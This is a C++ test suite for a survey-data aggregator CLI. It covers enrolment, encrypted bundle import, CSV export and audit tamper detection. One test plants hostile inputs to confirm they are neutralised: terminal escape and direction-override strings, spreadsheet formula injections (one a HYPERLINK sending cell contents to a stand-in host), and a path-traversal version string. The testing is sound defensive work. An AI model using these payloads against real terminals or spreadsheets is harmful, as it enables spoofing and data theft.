// ck-aggregator driven as an operator would drive it: the real binary on a real data folder.
// The device side (enrolment, sealing visits into a bundle) is done in-process with the same
// libraries a field device uses.
#include <catch2/catch.hpp>
#include <sodium.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <regex>
#include <sstream>

#include <nlohmann/json.hpp>

#include "core/crypto/envelope.h"
#include "core/crypto/sealed_box.h"
#include "core/form/answers_json.h"
#include "core/form/form_session.h"
#include "core/template/template_loader.h"
#include "sync/aggregator/ingest.h"
#include "sync/aggregator/project_keys.h"
#include "sync/protocol/messages.h"
#include "tests/support/command_run.h"
#include "tests/support/spreadsheet_check.h"
#include "tests/support/test_images.h"
#include "tools/terminal/terminal_text.h"

using namespace ck;
using ck::test::runCommand;
using ck::test::shellQuote;
namespace fs = std::filesystem;

namespace {

constexpr const char* kPassphrase = "Kanchipuram silk 2026 baseline";

fs::path scratch(const std::string& name) {
    fs::path dir = fs::path(CK_BINARY_DIR) / "test-scratch" / "test_ck_aggregator" / name;
    fs::remove_all(dir);
    fs::create_directories(dir);
    return dir;
}

std::string readText(const fs::path& p) {
    std::ifstream in(p, std::ios::binary);
    std::stringstream s;
    s << in.rdbuf();
    return s.str();
}

void writeText(const fs::path& p, const std::string& text) { std::ofstream(p, std::ios::binary) << text; }

struct Cli {
    fs::path data;
    std::string passphrase = kPassphrase;
    test::CommandRun run(const std::string& args) const {
        std::string env = "CK_ADMIN_PASSPHRASE=" + shellQuote(passphrase) + " ";
        return runCommand(env + shellQuote(CK_AGGREGATOR_BIN) + " " + args + " --data " + shellQuote(data.string()));
    }
};

std::string match(const std::string& text, const std::string& pattern) {
    std::smatch m;
    std::regex re(pattern);
    if (!std::regex_search(text, m, re)) return {};
    return m[1].str();
}

std::vector<uint8_t> sign(const std::vector<uint8_t>& bytes, const SecretBytes& key) {
    std::vector<uint8_t> sig(crypto_sign_BYTES);
    crypto_sign_detached(sig.data(), nullptr, bytes.data(), bytes.size(), key.data());
    return sig;
}

size_t countLines(const std::string& text) { return size_t(std::count(text.begin(), text.end(), '\n')); }

}  // namespace

TEST_CASE("ck-aggregator: init, enrol, publish, assign, import, export, audit", "[sync][agg][cli]") {
    fs::path root = scratch("flow");
    Cli cli{root / "data"};

    auto init = cli.run("init --test-kdf --name 'Tamil Nadu baseline' --host 192.168.1.20");
    INFO(init.all());
    REQUIRE(init.status == 0);
    CHECK_THAT(init.out, Catch::Contains("ingest key:") && Catch::Contains("template signing key:") &&
                             Catch::Contains("TLS pin:") && Catch::Contains("SQLite"));
    CHECK_THAT(init.all(), !Catch::Contains(kPassphrase));
    std::string ingestHex = match(init.out, "ingest key \\(hex\\): +([0-9a-f]{64})");
    REQUIRE(ingestHex.size() == 64);
    CHECK(fs::exists(cli.data / "keys.ck"));
    CHECK(fs::exists(cli.data / "config.json"));

    // A second init never replaces the keys.
    auto again = cli.run("init --test-kdf");
    CHECK(again.status == 1);
    CHECK_THAT(again.err, Catch::Contains("already"));

    // A wrong admin passphrase is refused before anything changes.
    Cli wrong = cli;
    wrong.passphrase = "Kanchipuram silk 2026 baselin";
    auto refused = wrong.run("enrol --officer 'Priya S' --cluster kanchipuram_silk");
    CHECK(refused.status == 1);
    CHECK_THAT(refused.err, Catch::Contains("wrong admin passphrase"));

    auto enrol = cli.run("enrol --officer 'Priya S' --cluster kanchipuram_silk --valid-hours 24");
    INFO(enrol.all());
    REQUIRE(enrol.status == 0);
    std::string code = match(enrol.out, "code: +([2-9A-HJKMNP-Z]{4}-[2-9A-HJKMNP-Z]{4}-[2-9A-HJKMNP-Z]{4})");
    REQUIRE_FALSE(code.empty());
    CHECK_THAT(enrol.out, Catch::Contains("https://192.168.1.20:") && Catch::Contains("TLS pin:") &&
                              Catch::Contains("ingest key:"));

    std::string flagshipPath = std::string(CK_SOURCE_DIR) + "/survey-templates/cluster-diagnostic.json";
    auto publish = cli.run("templates publish " + shellQuote(flagshipPath));
    INFO(publish.all());
    REQUIRE(publish.status == 0);
    CHECK_THAT(publish.out, Catch::Contains("cluster-diagnostic"));
    CHECK(cli.run("templates publish " + shellQuote(flagshipPath)).status == 1);
    writeText(root / "broken.json", R"({"id": "b", "version": "1", "languages": ["en"], "title": "B",
      "sections": [{"id": "s", "label": "S", "questions": [
        {"id": "a", "type": "integer", "label": "A", "relevant": "${nope} > 1"}]}]})");
    auto broken = cli.run("templates publish " + shellQuote((root / "broken.json").string()));
    CHECK(broken.status == 1);
    CHECK_THAT(broken.err, Catch::Contains("nope"));
    auto list = cli.run("templates list");
    CHECK(list.status == 0);
    CHECK_THAT(list.out, Catch::Contains("cluster-diagnostic") && Catch::Contains("1 template version"));

    // The register: a bad file loads nothing and names every bad row.
    writeText(root / "bad.csv",
              "unit_id,name,cluster,district,state,stratum,sector\n"
              "KSP-1,Sri Murugan Silks,kanchipuram_silk,Kanchipuram,Tamil Nadu,micro,silk\n"
              "KSP-2,,kanchipuram_silk,Kanchipuram,Tamil Nadu,micro,silk\n"
              "KSP-3,\"Devi Weavers, Ltd\",kanchipuram_silk,Kanchipuram,Tamil Nadu,small,silk\n"
              "KSP-1,Duplicate,kanchipuram_silk,Kanchipuram,Tamil Nadu,micro,silk\n"
              "KSP-5,Short row,kanchipuram_silk\n");
    auto bad = cli.run("assign " + shellQuote((root / "bad.csv").string()));
    CHECK(bad.status == 1);
    CHECK_THAT(bad.err, Catch::Contains("bad.csv:3: empty name") && Catch::Contains("bad.csv:5: unit_id 'KSP-1'") &&
                            Catch::Contains("bad.csv:6: has 3 fields") && Catch::Contains("nothing was loaded"));
    CHECK_THAT(bad.err, !Catch::Contains("bad.csv:4"));
    {
        auto storage = agg::openStorage(cli.data.string());
        CHECK(storage->listRegister().empty());
    }
    writeText(root / "good.csv",
              "unit_id,name,cluster,district,state,stratum\r\n"
              "KSP-1,Sri Murugan Silks,kanchipuram_silk,Kanchipuram,Tamil Nadu,micro\r\n"
              "KSP-3,\"Devi Weavers, Ltd\",kanchipuram_silk,Kanchipuram,Tamil Nadu,small\r\n");
    auto good = cli.run("assign " + shellQuote((root / "good.csv").string()));
    INFO(good.all());
    CHECK(good.status == 0);
    CHECK_THAT(good.out, Catch::Contains("2 unit(s)"));

    // A device enrols with the code and brings three visits on a stick.
    std::vector<uint8_t> devicePublic(crypto_sign_PUBLICKEYBYTES);
    SecretBytes deviceSecret(crypto_sign_SECRETKEYBYTES);
    crypto_sign_keypair(devicePublic.data(), deviceSecret.data());
    std::string deviceId;
    {
        auto keys = agg::unlockProjectKeys(cli.data, kPassphrase);
        REQUIRE(std::holds_alternative<agg::ProjectKeys>(keys));
        auto storage = agg::openStorage(cli.data.string());
        agg::IngestService ingest(*storage, std::get<agg::ProjectKeys>(keys));
        proto::EnrolRequest req{code, devicePublic, "Tab 7", agg::systemClock(), {}};
        req.signature = sign(proto::signingBytes(req), deviceSecret);
        auto reply = ingest.enrol(req);
        REQUIRE(std::holds_alternative<proto::EnrolReply>(reply));
        deviceId = std::get<proto::EnrolReply>(reply).deviceId;
        CHECK(std::get<proto::EnrolReply>(reply).cluster == "kanchipuram_silk");
    }
    std::string flagship = readText(flagshipPath);
    auto survey = loadTemplateJson(flagship, "cluster-diagnostic.json").survey;
    REQUIRE(survey);
    std::string dictionary = recordDictionary(*survey);
    auto answers = nlohmann::json::parse(readText(std::string(CK_TEST_DATA_DIR) + "/answers/knitwear-complete.json"));
    std::vector<uint8_t> ingestKey(32);
    REQUIRE(sodium_hex2bin(ingestKey.data(), 32, ingestHex.data(), 64, nullptr, nullptr, nullptr) == 0);
    BoxKeyPair custodian = newBoxKeyPair();
    std::vector<std::string> personal;
    for (const auto& q : survey->questions)
        if (q.pii) personal.push_back(q.id);

    proto::Bundle bundle;
    bundle.createdBy = "Tab 7";
    bundle.createdAt = agg::systemClock();
    proto::UploadBatch batch;
    batch.devicePublicKey = devicePublic;
    batch.sentAt = bundle.createdAt;
    std::vector<std::string> recordIds;
    for (int i = 0; i < 3; ++i) {
        FormSession session(survey, newRecordId(), bundle.createdAt - 3600);
        (void)applyAnswersJson(session, answers);
        // The cluster the device is enrolled for (not one of the template's listed clusters):
        // a visit answering another cluster is refused at ingest.
        REQUIRE(session.setAnswer("cluster", Value::text("other")).ok());
        REQUIRE(session.setAnswer("cluster_other", Value::text("kanchipuram_silk")).ok());
        Record r = session.toRecord();
        recordIds.push_back(r.id);
        SealInput in;
        in.record = &r;
        in.personalFields = personal;
        in.aggregatorPublicKey = ingestKey;
        if (i == 0) in.custodianPublicKey = custodian.publicKey;
        in.signingSecretKey = &deviceSecret;
        in.signingPublicKey = devicePublic;
        in.dictionary = dictionary;
        batch.envelopes.push_back(proto::toWire(sealEnvelope(in)));
    }
    batch.signature = sign(proto::signingBytes(batch), deviceSecret);
    bundle.batches.push_back(batch);
    auto frame = proto::encodeFrame(bundle);
    writeText(root / "tab7.ckbundle", std::string(frame.begin(), frame.end()));

    auto import1 = cli.run("import " + shellQuote((root / "tab7.ckbundle").string()) + " --receipt " +
                           shellQuote((root / "receipt.ck").string()));
    INFO(import1.all());
    REQUIRE(import1.status == 0);
    CHECK_THAT(import1.out, Catch::Contains("3 stored, 0 duplicate, 0 refused"));
    auto receiptBytes = readText(root / "receipt.ck");
    auto decoded = proto::decodeFrame(reinterpret_cast<const uint8_t*>(receiptBytes.data()), receiptBytes.size());
    REQUIRE(std::holds_alternative<proto::Message>(decoded));
    auto* receipt = std::get_if<proto::Receipt>(&std::get<proto::Message>(decoded));
    REQUIRE(receipt);
    REQUIRE(receipt->entries.size() == 3);
    CHECK(receipt->entries[0].recordId == recordIds[0]);
    CHECK(receipt->entries[0].contentHash.size() == 64);

    auto import2 = cli.run("import " + shellQuote((root / "tab7.ckbundle").string()));
    CHECK(import2.status == 0);
    CHECK_THAT(import2.out, Catch::Contains("0 stored, 3 duplicate, 0 refused"));
    writeText(root / "garbage.ckbundle", "not a bundle at all");
    auto garbage = cli.run("import " + shellQuote((root / "garbage.ckbundle").string()));
    CHECK(garbage.status == 1);
    CHECK_FALSE(garbage.err.empty());

    auto devices = cli.run("devices list");
    CHECK(devices.status == 0);
    CHECK_THAT(devices.out, Catch::Contains(deviceId) && Catch::Contains("Priya S") && Catch::Contains("active"));

    CHECK(cli.run("comment " + recordIds[1] + " 'Turnover looks high: please recheck'").status == 0);
    auto noRecord = cli.run("comment no-such-record 'text'");
    CHECK(noRecord.status == 1);
    CHECK_THAT(noRecord.err, Catch::Contains("no visit"));

    // Export without the custodian key: no personal column; with it: the custodian's answers.
    auto exp = cli.run("export --out " + shellQuote((root / "out").string()));
    INFO(exp.all());
    REQUIRE(exp.status == 0);
    std::string csv = readText(root / "out" / "cluster-diagnostic-2026.1.csv");
    std::string header = csv.substr(0, csv.find('\n'));
    CHECK_THAT(header, Catch::StartsWith("record_id,") && Catch::Contains(",turnover") && Catch::Contains(",segment"));
    CHECK_THAT(header, !Catch::Contains("respondent_name"));
    CHECK_THAT(csv, !Catch::Contains("Senthilkumar"));
    CHECK(countLines(csv) == 4);
    CHECK(fs::exists(root / "out" / "cluster-diagnostic-2026.1.product_lines.csv"));
    CHECK(countLines(readText(root / "out" / "cluster-diagnostic-2026.1.product_lines.csv")) == 1 + 3 * 3);
    auto json = nlohmann::json::parse(readText(root / "out" / "cluster-diagnostic-2026.1.json"));
    CHECK(json.size() == 3);

    char secretHex[65];
    sodium_bin2hex(secretHex, sizeof secretHex, custodian.secretKey.data(), 32);
    writeText(root / "custodian.key", std::string(secretHex) + "\n");
    auto withKey = cli.run("export --format csv --out " + shellQuote((root / "out-personal").string()) +
                           " --custodian-key " + shellQuote((root / "custodian.key").string()));
    INFO(withKey.all());
    CHECK(withKey.status == 0);
    std::string personalCsv = readText(root / "out-personal" / "cluster-diagnostic-2026.1.csv");
    CHECK_THAT(personalCsv.substr(0, personalCsv.find('\n')), Catch::Contains("respondent_name"));
    CHECK_THAT(personalCsv, Catch::Contains("K. Senthilkumar"));
    CHECK_FALSE(fs::exists(root / "out-personal" / "cluster-diagnostic-2026.1.json"));
    writeText(root / "bad.key", "not hex\n");
    CHECK(cli.run("export --out " + shellQuote((root / "x").string()) + " --custodian-key " +
                  shellQuote((root / "bad.key").string())).status == 2);

    // The audit chain holds; an edit with the sqlite3 tool is caught.
    auto status = cli.run("status");
    INFO(status.all());
    REQUIRE(status.status == 0);
    CHECK_THAT(status.out, Catch::Contains("visits:         3"));
    std::string head = match(status.out, "audit head: +([0-9a-f]{64})");
    REQUIRE(head.size() == 64);
    auto verify = cli.run("audit verify --expect-head " + head);
    INFO(verify.all());
    CHECK(verify.status == 0);
    CHECK_THAT(verify.out, Catch::Contains("intact"));
    auto notHead = cli.run("audit verify --expect-head " + std::string(64, 'a'));
    CHECK(notHead.status == 1);

    auto edit = runCommand("sqlite3 " + shellQuote((cli.data / "aggregator.db").string()) +
                           " \"UPDATE audit SET detail = 'nothing to see' WHERE seq = 3\"");
    REQUIRE(edit.status == 0);
    auto tampered = cli.run("audit verify");
    CHECK(tampered.status == 1);
    CHECK_THAT(tampered.out, Catch::Contains("BROKEN"));

    CHECK(cli.run("devices revoke " + deviceId).status == 0);
    auto twice = cli.run("devices revoke " + deviceId);
    CHECK(twice.status == 1);
    CHECK_THAT(twice.err, Catch::Contains("already revoked"));
    CHECK(cli.run("devices revoke dev-00000000").status == 1);
}

TEST_CASE("ck-aggregator: help, usage errors and a missing data folder", "[sync][agg][cli]") {
    fs::path root = scratch("usage");
    for (const char* cmd : {"init", "enrol", "devices", "templates", "assign", "comment", "import", "export", "audit",
                            "status"}) {
        auto r = runCommand(shellQuote(CK_AGGREGATOR_BIN) + " " + cmd + " --help");
        INFO(cmd << ": " << r.all());
        CHECK(r.status == 0);
        CHECK_THAT(r.out, Catch::Contains("usage: ck-aggregator"));
    }
    CHECK(runCommand(shellQuote(CK_AGGREGATOR_BIN)).status == 2);
    CHECK(runCommand(shellQuote(CK_AGGREGATOR_BIN) + " frobnicate").status == 2);
    auto noData = runCommand("env -u CK_AGGREGATOR_DATA " + shellQuote(CK_AGGREGATOR_BIN) + " status");
    CHECK(noData.status == 2);
    CHECK_THAT(noData.err, Catch::Contains("--data"));
    auto missing = runCommand(shellQuote(CK_AGGREGATOR_BIN) + " status --data " + shellQuote((root / "nowhere").string()));
    CHECK(missing.status == 2);
    CHECK_THAT(missing.err, Catch::Contains("init"));
    auto badOption = runCommand(shellQuote(CK_AGGREGATOR_BIN) + " enrol --officer X --cluster Y --valid-hours soon --data " +
                                shellQuote(root.string()));
    CHECK(badOption.status == 2);
    // No passphrase and no terminal: told how to give one, nothing made.
    auto noPass = runCommand("env -u CK_ADMIN_PASSPHRASE " + shellQuote(CK_AGGREGATOR_BIN) + " init --test-kdf --data " +
                             shellQuote((root / "d").string()));
    CHECK(noPass.status == 2);
    CHECK_THAT(noPass.err, Catch::Contains("CK_ADMIN_PASSPHRASE"));
    CHECK_FALSE(fs::exists(root / "d" / "keys.ck"));
    // A weak passphrase is refused with the reason.
    auto weak = runCommand("CK_ADMIN_PASSPHRASE=password123 " + shellQuote(CK_AGGREGATOR_BIN) + " init --test-kdf --data " +
                           shellQuote((root / "w").string()));
    CHECK(weak.status == 1);
    CHECK_FALSE(fs::exists(root / "w" / "keys.ck"));
}

// A device (or whoever made the stick) chooses its label, the bundle's createdBy, record ids
// and the answers' text. None of it may drive the operator's terminal or run as a formula in
// the export; a version string cannot name a path; a bundle file is read bounded.
TEST_CASE("ck-aggregator: device-chosen text never drives the terminal or a spreadsheet", "[sync][agg][cli]") {
    fs::path root = scratch("hostile");
    Cli cli{root / "data"};
    auto init = cli.run("init --test-kdf");
    INFO(init.all());
    REQUIRE(init.status == 0);
    std::string ingestHex = match(init.out, "ingest key \\(hex\\): +([0-9a-f]{64})");
    REQUIRE(ingestHex.size() == 64);
    std::string flagshipPath = std::string(CK_SOURCE_DIR) + "/survey-templates/cluster-diagnostic.json";
    REQUIRE(cli.run("templates publish " + shellQuote(flagshipPath)).status == 0);
    std::string code = match(cli.run("enrol --officer 'Priya S' --cluster tiruppur_knitwear").out,
                             "code: +([2-9A-HJKMNP-Z]{4}-[2-9A-HJKMNP-Z]{4}-[2-9A-HJKMNP-Z]{4})");
    REQUIRE_FALSE(code.empty());

    // Clear the screen, retitle the window, colour the rest red, hide text right to left.
    const std::string evilLabel = "Tab\x1b[2J\x1b]0;owned\x07\x1b[31m\xe2\x80\xae" "evil";
    std::vector<uint8_t> devicePublic(crypto_sign_PUBLICKEYBYTES);
    SecretBytes deviceSecret(crypto_sign_SECRETKEYBYTES);
    crypto_sign_keypair(devicePublic.data(), deviceSecret.data());
    {
        auto keys = agg::unlockProjectKeys(cli.data, kPassphrase);
        REQUIRE(std::holds_alternative<agg::ProjectKeys>(keys));
        auto storage = agg::openStorage(cli.data.string());
        agg::IngestService ingest(*storage, std::get<agg::ProjectKeys>(keys));
        proto::EnrolRequest req{code, devicePublic, evilLabel, agg::systemClock(), {}};
        req.signature = sign(proto::signingBytes(req), deviceSecret);
        REQUIRE(std::holds_alternative<proto::EnrolReply>(ingest.enrol(req)));
    }
    auto devices = cli.run("devices list");
    INFO(devices.all());
    REQUIRE(devices.status == 0);
    CHECK(devices.out.find('\x1b') == std::string::npos);
    CHECK(devices.out.find('\x07') == std::string::npos);
    CHECK(devices.out.find("\xe2\x80\xae") == std::string::npos);
    CHECK_THAT(devices.out, Catch::Contains("Tab\\x1b[2J\\x1b]0;owned\\x07\\x1b[31m\\u{202e}evil"));

    // Visits whose free-text answer is a formula, on a stick whose createdBy is hostile too.
    auto survey = loadTemplateJson(readText(flagshipPath), "cluster-diagnostic.json").survey;
    REQUIRE(survey);
    auto answers = nlohmann::json::parse(readText(std::string(CK_TEST_DATA_DIR) + "/answers/knitwear-complete.json"));
    std::vector<uint8_t> ingestKey(32);
    REQUIRE(sodium_hex2bin(ingestKey.data(), 32, ingestHex.data(), 64, nullptr, nullptr, nullptr) == 0);
    std::vector<std::string> personal;
    for (const auto& q : survey->questions)
        if (q.pii) personal.push_back(q.id);
    const std::vector<std::string> formulas = {"=HYPERLINK(\"http://example.invalid/?\"&A2,\"Details\")", "=1+1",
                                               "+1+1", "-1+1", "@SUM(1;2)", "\t=1+1"};
    proto::Bundle bundle;
    bundle.createdBy = "Operator\x1b[2K\rImported 0 records";  // would overwrite the line it is on
    bundle.createdAt = agg::systemClock();
    proto::UploadBatch batch;
    batch.devicePublicKey = devicePublic;
    batch.sentAt = bundle.createdAt;
    for (const std::string& f : formulas) {
        nlohmann::json a = answers;
        a["officer_id"] = f;
        FormSession session(survey, newRecordId(), bundle.createdAt - 3600);
        (void)applyAnswersJson(session, a);
        Record r = session.toRecord();
        REQUIRE(r.find("officer_id"));
        SealInput in;
        in.record = &r;
        in.personalFields = personal;
        in.aggregatorPublicKey = ingestKey;
        in.signingSecretKey = &deviceSecret;
        in.signingPublicKey = devicePublic;
        in.dictionary = recordDictionary(*survey);
        batch.envelopes.push_back(proto::toWire(sealEnvelope(in)));
    }
    batch.signature = sign(proto::signingBytes(batch), deviceSecret);
    bundle.batches.push_back(batch);
    auto frame = proto::encodeFrame(bundle);
    writeText(root / "stick.ckbundle", std::string(frame.begin(), frame.end()));
    auto imported = cli.run("import " + shellQuote((root / "stick.ckbundle").string()));
    INFO(imported.all());
    REQUIRE(imported.status == 0);
    CHECK(imported.all().find('\x1b') == std::string::npos);
    CHECK(imported.out.find('\r') == std::string::npos);
    // Not signed, so not stated as fact: shown as what the bundle claims.
    CHECK_THAT(imported.out, Catch::Contains("claims to be from \"Operator\\x1b[2K\\x0dImported 0 records\""));
    CHECK_THAT(imported.out, Catch::Contains(std::to_string(formulas.size()) + " stored"));

    // The export opened in LibreOffice, formulas evaluated: no cell is a formula, the
    // formula-looking answers are there as text, and numbers are still numbers.
    auto exported = cli.run("export --format csv --out " + shellQuote((root / "out").string()));
    INFO(exported.all());
    REQUIRE(exported.status == 0);
    fs::path csv = root / "out" / "cluster-diagnostic-2026.1.csv";
    std::string text = readText(csv);
    for (const std::string& f : formulas)
        if (f.find('"') == std::string::npos) CHECK_THAT(text, Catch::Contains("'" + f));
    const std::string fods = test::csvAsFlatOds(csv, root / "lo");
    const auto found = test::formulaCells(fods);
    for (const auto& f : found) UNSCOPED_INFO("formula cell: " << f);
    CHECK(found.empty());
    const std::string turnover = answers.at("turnover").dump();
    CHECK(test::numberCells(fods, turnover) == formulas.size());

    // A version that names a path is refused at publish, before anything is stored.
    std::string evilTemplate = readText(flagshipPath);
    evilTemplate.replace(evilTemplate.find("\"2026.1\""), 8, "\"../../../tmp/x\"");
    writeText(root / "evil-version.json", evilTemplate);
    auto evil = cli.run("templates publish " + shellQuote((root / "evil-version.json").string()));
    CHECK(evil.status == 1);
    CHECK_THAT(evil.err, Catch::Contains("not a valid version"));
    CHECK_THAT(cli.run("templates list").out, Catch::Contains("1 template version"));

    // A bundle file larger than any frame is refused from its size, unread; a device file too.
    {
        std::ofstream big(root / "huge.ckbundle", std::ios::binary);
        big.seekp(std::streamoff(proto::kMaxFrameBytes) + 1);
        big.put('\0');
    }
    auto huge = cli.run("import " + shellQuote((root / "huge.ckbundle").string()));
    CHECK(huge.status == 1);
    CHECK_THAT(huge.err, Catch::Contains("holds at most"));
    auto device = cli.run("import /dev/zero");
    CHECK(device.status == 1);
    CHECK_THAT(device.err, Catch::Contains("not a regular file"));
}

TEST_CASE("terminalSafe: controls, broken UTF-8 and direction overrides are shown, not obeyed", "[sync][agg][cli]") {
    CHECK(terminalSafe("Tab 7") == "Tab 7");
    CHECK(terminalSafe("सूक्ष्म Tiruppur") == "सूक्ष्म Tiruppur");  // real text stays as it is
    CHECK(terminalSafe("a\x1b[2Jb") == "a\\x1b[2Jb");
    CHECK(terminalSafe("\r\n\t\x7f") == "\\x0d\\x0a\\x09\\x7f");
    CHECK(terminalSafe("\xc2\x9b" "31m") == "\\u{9b}31m");        // the one-byte CSI of C1
    CHECK(terminalSafe("\xe2\x80\xae" "txt.exe") == "\\u{202e}txt.exe");
    CHECK(terminalSafe("\xc0\xaf") == "\\xc0\\xaf");              // overlong '/': not UTF-8
    CHECK(terminalSafe("\xed\xa0\x80") == "\\xed\\xa0\\x80");     // a surrogate
    CHECK(terminalSafe("\xe2\x82") == "\\xe2\\x82");              // cut short
    CHECK(terminalSafe("C:\\x1b") == "C:\\\\x1b");                // a shown escape is never a sent one
}

TEST_CASE("ck-aggregator: templates publish packs the images a template names, refuses a broken one", "[sync][agg][cli][media]") {
    fs::path root = scratch("publish-images");
    Cli cli{root / "data"};
    REQUIRE(cli.run("init --test-kdf --name 'Images' --host 127.0.0.1").status == 0);
    fs::path form = root / "signs.json";
    writeText(form, R"({"id": "signs", "version": "1", "languages": ["en"], "title": "Signs",
      "sections": [{"id": "s", "label": "S", "questions": [
        {"id": "front", "type": "note", "label": "Front", "image": "front.png"}]}]})");
    const std::string front = test::solidPng(50, 40, 0xff00ff);
    test::writeFileIn(root / "pictures" / "front.png", front);

    // The folder named with --media; the image is packed into what is signed.
    auto published = cli.run("templates publish " + shellQuote(form.string()) + " --media " +
                             shellQuote((root / "pictures").string()));
    INFO(published.all());
    REQUIRE(published.status == 0);
    CHECK_THAT(published.out, Catch::Contains("with 1 image"));

    // A broken image (cut short) is refused at its question; nothing is published.
    writeText(root / "signs2.json", R"({"id": "signs", "version": "2", "languages": ["en"], "title": "Signs",
      "sections": [{"id": "s", "label": "S", "questions": [
        {"id": "front", "type": "note", "label": "Front", "image": "front.png"}]}]})");
    test::writeFileIn(root / "signs2-media" / "front.png", front.substr(0, 45));
    auto broken = cli.run("templates publish " + shellQuote((root / "signs2.json").string()));
    CHECK(broken.status == 1);
    CHECK_THAT(broken.err, Catch::Contains("question 'front', image: 'front.png' does not decode") &&
                               Catch::Contains("nothing was published"));
    // A missing image is a warning; the template is published without it.
    fs::remove_all(root / "signs2-media");
    auto missing = cli.run("templates publish " + shellQuote((root / "signs2.json").string()));
    INFO(missing.all());
    CHECK(missing.status == 0);
    CHECK_THAT(missing.err, Catch::Contains("warning:") && Catch::Contains("'front.png' is not shown"));
    // --media naming no folder is a usage error.
    CHECK(cli.run("templates publish " + shellQuote(form.string()) + " --media " + shellQuote((root / "nowhere").string()))
              .status == 2);
    // A workbook is published as it is checked.
    auto workbook = cli.run("templates publish " + shellQuote(std::string(CK_TEST_DATA_DIR) + "/xlsform/sample-bilingual.xlsx"));
    INFO(workbook.all());
    CHECK(workbook.status == 0);
    auto list = cli.run("templates list");
    CHECK_THAT(list.out, Catch::Contains("3 template version"));
}
